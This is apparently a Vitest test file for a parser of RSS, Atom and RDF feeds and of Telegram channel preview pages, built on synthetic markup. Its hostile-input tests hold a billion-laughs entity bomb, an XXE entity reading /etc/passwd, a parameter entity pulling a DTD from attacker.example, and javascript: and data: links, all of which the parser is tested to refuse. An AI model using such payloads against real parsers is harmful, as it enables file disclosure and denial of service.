import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { HTML_MAX_MEDIA } from './html-extract.ts';
import { FEED_MAX_INPUT_BYTES, SourceParseError, newOutlinks, parseFeed, parseTelegramPreview } from './source-parsers.ts';

const FEED_URL = 'https://blog.example.org/feeds/main.xml';

describe('parseFeed: RSS 2.0', () => {
  const rss = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>Synthetic &amp; Test Channel</title>
    <link>https://blog.example.org/</link>
    <item>
      <title>First &lt;post&gt; &#8220;quoted&#x201D;</title>
      <link>/posts/1?a=1&amp;b=2</link>
      <guid isPermaLink="false">post-1</guid>
      <pubDate>Tue, 05 Mar 2024 10:15:00 +0100</pubDate>
      <description><![CDATA[<p>Body with &amp; kept raw</p>]]></description>
      <enclosure url="/media/one.mp4" length="123" type="video/mp4"/>
      <media:content url="https://cdn.example.net/one.jpg" medium="image"/>
      <media:group>
        <media:content url="https://cdn.example.net/one-hd.mp4"/>
        <media:content url="https://cdn.example.net/one.jpg"/>
      </media:group>
    </item>
    <item>
      <title><![CDATA[Second post]]></title>
      <guid>https://blog.example.org/posts/2</guid>
      <dc:date>2024-03-06T08:00:00Z</dc:date>
    </item>
    <item>
      <title>Third, guid is not a link</title>
      <guid>12345</guid>
      <pubDate>not a date</pubDate>
    </item>
    <item><title>Nothing to take in</title><description>no link, guid or media</description></item>
    <item><title>Repeat of the first</title><guid isPermaLink="false">post-1</guid></item>
  </channel>
</rss>`;

  it('reads the channel title and items with absolute links, ids, dates and media', () => {
    const feed = parseFeed(rss, FEED_URL);
    expect(feed.title).toBe('Synthetic & Test Channel');
    expect(feed.entries).toEqual([
      {
        id: 'post-1',
        url: 'https://blog.example.org/posts/1?a=1&b=2',
        title: 'First <post> “quoted”',
        publishedAt: Date.UTC(2024, 2, 5, 9, 15),
        mediaUrls: ['https://blog.example.org/media/one.mp4', 'https://cdn.example.net/one.jpg', 'https://cdn.example.net/one-hd.mp4'],
      },
      {
        id: 'https://blog.example.org/posts/2',
        url: 'https://blog.example.org/posts/2',
        title: 'Second post',
        publishedAt: Date.UTC(2024, 2, 6, 8),
        mediaUrls: [],
      },
      { id: '12345', url: null, title: 'Third, guid is not a link', publishedAt: null, mediaUrls: [] },
    ]);
  });

  it('resolves against xml:base and caps media per entry', () => {
    const enclosures = Array.from({ length: HTML_MAX_MEDIA + 10 }, (_, i) => `<enclosure url="m/${i}.jpg"/>`).join('');
    const feed = parseFeed(
      `<rss><channel xml:base="https://mirror.example.net/site/"><item><link>a</link>${enclosures}</item></channel></rss>`,
      FEED_URL,
    );
    expect(feed.entries[0]?.url).toBe('https://mirror.example.net/site/a');
    expect(feed.entries[0]?.id).toBe('https://mirror.example.net/site/a');
    expect(feed.entries[0]?.mediaUrls).toHaveLength(HTML_MAX_MEDIA);
    expect(feed.entries[0]?.mediaUrls[0]).toBe('https://mirror.example.net/site/m/0.jpg');
  });

  it('drops non-http links and enclosures', () => {
    const feed = parseFeed(
      '<rss><channel><item><guid>g</guid><link>javascript:alert(1)</link><enclosure url="data:video/mp4;base64,AAAA"/><enclosure url="mailto:x@example.org"/></item></channel></rss>',
      FEED_URL,
    );
    expect(feed.entries).toEqual([{ id: 'g', url: null, title: null, publishedAt: null, mediaUrls: [] }]);
  });
});

describe('parseFeed: Atom', () => {
  const atom = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/" xml:base="https://videos.example.org/channel/">
  <title type="html">Synthetic &lt;b&gt;Channel&lt;/b&gt; &amp;amp; more</title>
  <link rel="self" href="https://videos.example.org/feed.atom"/>
  <entry>
    <id>urn:uuid:0d5b2f2c-0000-4000-8000-000000000001</id>
    <title>Entry one</title>
    <link rel="self" href="/api/entries/1"/>
    <link href="watch/1"/>
    <link rel="enclosure" type="video/mp4" href="files/1.mp4"/>
    <media:group><media:content url="https://cdn.example.net/1.mp4"/></media:group>
    <published>2024-04-01T12:00:00+02:00</published>
    <updated>2024-04-02T12:00:00Z</updated>
  </entry>
  <entry xml:base="https://other.example.com/base/">
    <title type="text">Entry two</title>
    <link rel="alternate" type="text/html" href="two.html"/>
    <updated>2024-04-03T00:00:00Z</updated>
  </entry>
  <entry><title>No id, no link</title></entry>
</feed>`;

  it('reads entries with ids, alternate links, enclosures and dates, honouring xml:base', () => {
    const feed = parseFeed(atom, FEED_URL);
    expect(feed.title).toBe('Synthetic Channel & more');
    expect(feed.entries).toEqual([
      {
        id: 'urn:uuid:0d5b2f2c-0000-4000-8000-000000000001',
        url: 'https://videos.example.org/channel/watch/1',
        title: 'Entry one',
        publishedAt: Date.UTC(2024, 3, 1, 10),
        mediaUrls: ['https://videos.example.org/channel/files/1.mp4', 'https://cdn.example.net/1.mp4'],
      },
      {
        id: 'https://other.example.com/base/two.html',
        url: 'https://other.example.com/base/two.html',
        title: 'Entry two',
        publishedAt: Date.UTC(2024, 3, 3),
        mediaUrls: [],
      },
    ]);
  });

  it('resolves relative links against the feed URL when there is no xml:base', () => {
    const feed = parseFeed('<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>e</id><link href="../post/9"/></entry></feed>', FEED_URL);
    expect(feed.entries[0]?.url).toBe('https://blog.example.org/post/9');
  });
});

describe('parseFeed: RSS 1.0 (RDF)', () => {
  it('reads items that are siblings of the channel, with rdf:about ids and dc:date', () => {
    const rdf = `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://blog.example.org/">
    <title>RDF channel</title>
    <items><rdf:Seq><rdf:li rdf:resource="https://blog.example.org/r/1"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://blog.example.org/r/1">
    <title>RDF item</title>
    <link>/r/1</link>
    <dc:date>2024-05-01T00:00:00Z</dc:date>
  </item>
  <item><title>Relative only</title><link>r/2</link></item>
</rdf:RDF>`;
    expect(parseFeed(rdf, FEED_URL)).toEqual({
      title: 'RDF channel',
      entries: [
        { id: 'https://blog.example.org/r/1', url: 'https://blog.example.org/r/1', title: 'RDF item', publishedAt: Date.UTC(2024, 4, 1), mediaUrls: [] },
        { id: 'https://blog.example.org/feeds/r/2', url: 'https://blog.example.org/feeds/r/2', title: 'Relative only', publishedAt: null, mediaUrls: [] },
      ],
    });
  });
});

describe('parseFeed: hostile input', () => {
  it('does not expand a billion-laughs DTD', () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const xml = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol0 "lol">
  ${levels}
]>
<rss><channel><title>&lol9;</title><item><title>a &lol9; b</title><guid>&lol9;</guid><link>https://blog.example.org/&lol9;</link></item></channel></rss>`;
    const feed = parseFeed(xml, FEED_URL);
    expect(feed.title).toBe('&lol9;');
    expect(feed.entries[0]?.title).toBe('a &lol9; b');
    expect(feed.entries[0]?.id).toBe('&lol9;');
  });

  it('does not expand internal entities or decode a reference twice', () => {
    const xml = `<!DOCTYPE rss [<!ENTITY big "${'x'.repeat(9000)}">]>
<rss><channel><title>&big;&big; &amp;lt; &#0; &#x110000; &#xD800; &#65;&#x1F600;</title></channel></rss>`;
    expect(parseFeed(xml, FEED_URL).title).toBe('&big;&big; &lt; &#0; &#x110000; &#xD800; A😀');
  });

  it('refuses external and parameter entities (XXE)', () => {
    const system = '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss><channel><title>&xxe;</title></channel></rss>';
    const parameter = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss><channel><title>t</title></channel></rss>';
    expect(() => parseFeed(system, FEED_URL)).toThrow(SourceParseError);
    expect(() => parseFeed(parameter, FEED_URL)).toThrow(SourceParseError);
  });

  it('accepts a DOCTYPE naming an external DTD, as RSS 0.91 feeds do, without fetching it', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://dtd.example.org/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old feed</title><item><link>https://blog.example.org/old</link></item></channel></rss>`;
    expect(parseFeed(xml, FEED_URL).entries.map((e) => e.url)).toEqual(['https://blog.example.org/old']);
  });

  it('refuses what is not a feed, and a feed over the size limit', () => {
    expect(() => parseFeed('<html><body><p>not a feed</p></body></html>', FEED_URL)).toThrow(SourceParseError);
    expect(() => parseFeed('', FEED_URL)).toThrow(SourceParseError);
    expect(() => parseFeed('plain text', FEED_URL)).toThrow(/not an RSS, RDF or Atom feed/);
    const huge = `<rss><channel><title>${'x'.repeat(FEED_MAX_INPUT_BYTES)}</title></channel></rss>`;
    expect(() => parseFeed(huge, FEED_URL)).toThrow(/larger than/);
  });

  it('only ever throws SourceParseError on arbitrary markup', () => {
    const token = fc.constantFrom(
      '<rss>', '</rss>', '<channel>', '<item>', '</item>', '<feed>', '<entry>', '</entry>', '<link href="', '<link>', '</link>',
      '<guid>', '</guid>', '<title>', '</title>', '<![CDATA[', ']]>', '<!DOCTYPE x [', '<!ENTITY a "&a;">', ']>', '&amp;', '&a;',
      '&#xD800;', '"/>', '>', '<', 'x', '/p', 'http://h.example/', ' ',
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 40 }), (tokens) => {
        try {
          const feed = parseFeed(tokens.join(''), FEED_URL);
          for (const e of feed.entries) {
            expect(typeof e.id).toBe('string');
            if (e.url !== null) expect(e.url).toMatch(/^https?:\/\//);
          }
        } catch (e) {
          expect(e).toBeInstanceOf(SourceParseError);
        }
      }),
      { numRuns: 300 },
    );
  });
});

interface SyntheticPost {
  id: number;
  /** HTML of the message text, as t.me renders it. */
  textHtml?: string;
  datetime?: string;
  photos?: string[];
  video?: { src: string; thumb: string };
  voice?: string;
  document?: string;
  linkPreview?: string;
  replyTo?: { id: number; textHtml: string };
}

/** Markup shaped like https://t.me/s/NAME, generated so that no real channel content is needed. */
function telegramPreviewHtml(channel: string, title: string, posts: SyntheticPost[], olderBefore?: number): string {
  const post = (p: SyntheticPost): string => `
    <div class="tgme_widget_message_wrap js-widget_message_wrap">
      <div class="tgme_widget_message text_not_supported_wrap js-widget_message" data-post="${channel}/${p.id}" data-view="synthetic">
        <div class="tgme_widget_message_user"><a href="https://t.me/${channel}"><i class="tgme_widget_message_user_photo bgcolor0" data-content="S"><img src="https://cdn.example.net/avatar.jpg"></i></a></div>
        <div class="tgme_widget_message_bubble">
          <div class="tgme_widget_message_author accent_color"><a class="tgme_widget_message_owner_name" href="https://t.me/${channel}"><span dir="auto">${title}</span></a></div>
          ${p.replyTo ? `<a class="tgme_widget_message_reply" href="https://t.me/${channel}/${p.replyTo.id}"><div class="tgme_widget_message_text js-message_reply_text" dir="auto">${p.replyTo.textHtml}</div></a>` : ''}
          ${(p.photos ?? []).map((src) => `<a class="tgme_widget_message_photo_wrap blured ${p.id}" href="https://t.me/${channel}/${p.id}?single" style="width:800px;background-image:url('${src}')"><div class="tgme_widget_message_photo" style="padding-top:56.25%"></div></a>`).join('')}
          ${p.video ? `<a class="tgme_widget_message_video_player blured js-message_video_player" href="https://t.me/${channel}/${p.id}"><i class="tgme_widget_message_video_thumb" style="background-image:url(&quot;${p.video.thumb}&quot;)"></i><div class="tgme_widget_message_video_wrap"><video src="${p.video.src}" class="tgme_widget_message_video js-message_video" width="100%" height="100%"></video></div></a>` : ''}
          ${p.voice ? `<a class="tgme_widget_message_voice_player js-message_voice_player"><audio class="tgme_widget_message_voice js-message_voice" src="${p.voice}" preload="none"></audio></a>` : ''}
          ${p.document ? `<div class="tgme_widget_message_document_wrap"><a class="tgme_widget_message_document" href="${p.document}"><div class="tgme_widget_message_document_title">file.pdf</div></a></div>` : ''}
          ${p.textHtml === undefined ? '' : `<div class="tgme_widget_message_text js-message_text" dir="auto">${p.textHtml}</div>`}
          ${p.linkPreview ? `<a class="tgme_widget_message_link_preview" href="${p.linkPreview}"><div class="link_preview_site_name">Site</div><i class="link_preview_image" style="background-image:url('https://cdn.example.net/preview.jpg')"></i></a>` : ''}
          <div class="tgme_widget_message_footer compact js-message_footer">
            <div class="tgme_widget_message_info short js-message_info">
              <span class="tgme_widget_message_views">1.2K</span>
              <span class="tgme_widget_message_meta"><a class="tgme_widget_message_date" href="https://t.me/${channel}/${p.id}">${p.datetime ? `<time datetime="${p.datetime}" class="time">12:00</time>` : ''}</a></span>
            </div>
          </div>
        </div>
      </div>
    </div>`;
  return `<!DOCTYPE html>
<html><head>
  <meta charset="utf-8"><title>${title} – Telegram</title>
  <meta property="og:title" content="${title}">
</head><body class="widget_frame_base tgme_webpage">
  <header class="tgme_header"><div class="tgme_channel_info_header"><div class="tgme_channel_info_header_title"><span dir="auto">${title}</span></div>
  <div class="tgme_channel_info_header_username"><a href="https://t.me/${channel}">@${channel}</a></div></div></header>
  <main class="tgme_main"><section class="tgme_channel_history js-message_history">
    ${olderBefore === undefined ? '' : `<div class="tgme_widget_message_centered js-messages_more_wrap"><a href="/s/${channel}?before=${olderBefore}" class="tme_messages_more js-messages_more" data-before="${olderBefore}"></a></div>`}
    ${posts.map(post).join('\n')}
  </section></main>
  <div class="tgme_widget_message_centered"><a href="/s/${channel}?after=${(posts.at(-1)?.id ?? 0) + 1}" class="tme_messages_more js-messages_more" data-after="1"></a></div>
</body></html>`;
}

describe('parseTelegramPreview', () => {
  const channel = 'synthetic_news';
  const page = `https://t.me/s/${channel}`;
  const html = telegramPreviewHtml(
    channel,
    'Synthetic   News',
    [
      {
        id: 41,
        textHtml: 'First line<br>second line <a href="https://example.com/a?x=1&amp;amp;y=2" target="_blank" rel="noopener" onclick="return confirm(\'Open this link?\')">link</a> <a href="?q=%23tag">#tag</a> <i class="emoji" style="background-image:url(\'//telegram.org/img/emoji/40/F09F9880.png\')"><b>😀</b></i>',
        datetime: '2024-06-01T08:30:00+00:00',
        photos: ['https://cdn4.example-telegram.net/file/photo-a.jpg', 'https://cdn4.example-telegram.net/file/photo-b.jpg'],
        linkPreview: 'https://example.com/article',
      },
      {
        id: 42,
        textHtml: 'A video post with a mention of <a href="https://t.me/other_channel">@other_channel</a>',
        datetime: '2024-06-01T09:00:00+00:00',
        video: { src: 'https://cdn4.example-telegram.net/file/video.mp4?token=abc', thumb: 'https://cdn4.example-telegram.net/file/thumb.jpg' },
        replyTo: { id: 41, textHtml: 'Quoted text of 41 <a href="https://example.com/quoted">q</a>' },
      },
      { id: 43, voice: 'https://cdn4.example-telegram.net/file/voice.ogg', document: `https://t.me/${channel}/43` },
      { id: 44, document: 'https://files.example.net/leaflet.pdf', textHtml: 'النص العربي' },
      { id: 44, textHtml: 'duplicate id' },
    ],
    41,
  );

  it('reads the channel, its title and the older-page link', () => {
    const preview = parseTelegramPreview(html, page);
    expect(preview.channel).toBe(channel);
    expect(preview.title).toBe('Synthetic News');
    expect(preview.olderPageUrl).toBe(`https://t.me/s/${channel}?before=41`);
  });

  it('reads posts with ids, URLs, texts, dates, media and links', () => {
    const { posts } = parseTelegramPreview(html, page);
    expect(posts.map((p) => p.id)).toEqual([41, 42, 43, 44]);
    expect(posts[0]).toEqual({
      postUrl: `https://t.me/${channel}/41`,
      id: 41,
      text: 'First line\nsecond line link #tag 😀',
      datetime: '2024-06-01T08:30:00+00:00',
      mediaUrls: ['https://cdn4.example-telegram.net/file/photo-a.jpg', 'https://cdn4.example-telegram.net/file/photo-b.jpg'],
      links: ['https://example.com/a?x=1&y=2', 'https://example.com/article'],
    });
    expect(posts[1]).toEqual({
      postUrl: `https://t.me/${channel}/42`,
      id: 42,
      text: 'A video post with a mention of @other_channel',
      datetime: '2024-06-01T09:00:00+00:00',
      mediaUrls: ['https://cdn4.example-telegram.net/file/thumb.jpg', 'https://cdn4.example-telegram.net/file/video.mp4?token=abc'],
      links: ['https://t.me/other_channel'],
    });
    expect(posts[2]).toMatchObject({ text: '', datetime: null, mediaUrls: ['https://cdn4.example-telegram.net/file/voice.ogg'], links: [] });
    expect(posts[3]).toMatchObject({ text: 'النص العربي', mediaUrls: ['https://files.example.net/leaflet.pdf'] });
  });

  it('returns no older page on the first page, and skips posts without a usable data-post', () => {
    const first = telegramPreviewHtml(channel, 'T', [{ id: 1, textHtml: 'only' }]).replace(
      '</section>', '<div class="tgme_widget_message" data-post="broken"></div><div class="tgme_widget_message" data-post="x/../1"></div></section>',
    );
    const preview = parseTelegramPreview(first, page);
    expect(preview.olderPageUrl).toBeNull();
    expect(preview.posts.map((p) => p.postUrl)).toEqual([`https://t.me/${channel}/1`]);
  });

  it('takes the channel from the posts when the page URL is not a preview URL, and survives empty pages', () => {
    const other = parseTelegramPreview(telegramPreviewHtml('from_posts', 'T', [{ id: 7 }]), 'https://t.me/s/from_posts?before=8');
    expect(other.channel).toBe('from_posts');
    expect(parseTelegramPreview(telegramPreviewHtml('x_channel', 'T', [{ id: 7 }]), 'https://mirror.example.org/view').channel).toBe('x_channel');
    expect(parseTelegramPreview('', page)).toEqual({ channel, title: null, posts: [], olderPageUrl: null });
  });
});

describe('newOutlinks', () => {
  it('returns the links not seen before, in page order, each once', () => {
    const previous = new Set(['https://a.example/1', 'https://a.example/3']);
    const current = ['https://a.example/4', 'https://a.example/1', 'https://a.example/2', 'https://a.example/4', 'https://a.example/3'];
    expect(newOutlinks(previous, current)).toEqual(['https://a.example/4', 'https://a.example/2']);
    expect(newOutlinks([], [])).toEqual([]);
    expect(newOutlinks(['x'], ['x'])).toEqual([]);
  });

  it('accepts any iterable of previous links', () => {
    function* seen(): Generator<string> {
      yield 'https://a.example/1';
    }
    expect(newOutlinks(seen(), ['https://a.example/1', 'https://a.example/2'])).toEqual(['https://a.example/2']);
  });

  it('is the ordered set difference', () => {
    const url = fc.constantFrom('a', 'b', 'c', 'd', 'e', 'f').map((s) => `https://h.example/${s}`);
    fc.assert(
      fc.property(fc.array(url), fc.array(url), (previous, current) => {
        const fresh = newOutlinks(previous, current);
        const expected = [...new Set(current)].filter((u) => !previous.includes(u));
        expect(fresh).toEqual(expected);
      }),
    );
  });
});
